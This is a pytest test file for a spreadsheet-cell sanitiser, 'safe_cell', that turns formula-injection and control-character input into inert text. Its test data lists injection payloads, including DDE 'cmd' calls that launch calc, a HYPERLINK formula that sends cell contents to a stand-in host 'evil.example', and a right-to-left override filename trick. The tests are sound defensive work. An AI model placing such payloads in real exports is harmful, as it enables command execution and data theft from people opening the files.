import pytest
from hypothesis import given
from hypothesis import strategies as st

from tocsin.sinks.cells import safe_cell


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('=HYPERLINK("http://evil.example/?d="&A1,"x")', '\'=HYPERLINK("http://evil.example/?d="&A1,"x")'),
        ("+1+cmd|'/c calc'!A1", "'+1+cmd|'/c calc'!A1"),
        ("-enc SQBFAFgA", "'-enc SQBFAFgA"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@echo off", "'@echo off"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("\t=1+1", "'\\x09'=1+1"),
        ("\r=1+1", "'\\x0d'=1+1"),
        ("\n=1+1", "'\\x0a'=1+1"),
        ("\tplain", "'\\x09plain"),
        ("  =1+1", "  '=1+1"),
        ("ann;=1+1", "ann;'=1+1"),
        ('ann";=1+1', "ann\";'=1+1"),
        ("ann,@x", "ann,'@x"),
        ("ann\n=1+1", "ann\\x0a'=1+1"),
    ],
)
def test_what_a_spreadsheet_could_run_becomes_text(text: str, cell: str) -> None:
    assert safe_cell(text) == cell


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        ("a\x00b", "a\\x00b"),
        ("a\x7f\x9bb", "a\\x7f\\x9bb"),
        ("txt\u202egpj.exe", "txt\\u202egpj.exe"),
        ("a\u2028b", "a\\u2028b"),
        ("\ufeff=1", "\\ufeff=1"),
        ("\ud800", "\\ud800"),
    ],
)
def test_characters_that_steer_a_terminal_or_an_editor_are_made_visible(text: str, cell: str) -> None:
    assert safe_cell(text) == cell


@pytest.mark.parametrize(
    "text", ["", "CORP\\ann", "ws-1.corp.example", "Jürgen Groß", "日本語", "😀", "a=b", "1-2", 'say "x"']
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@given(st.text())
def test_no_text_begins_a_formula_or_a_second_line(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.lstrip(' "').startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n"))
    assert len(cell.splitlines()) <= 1
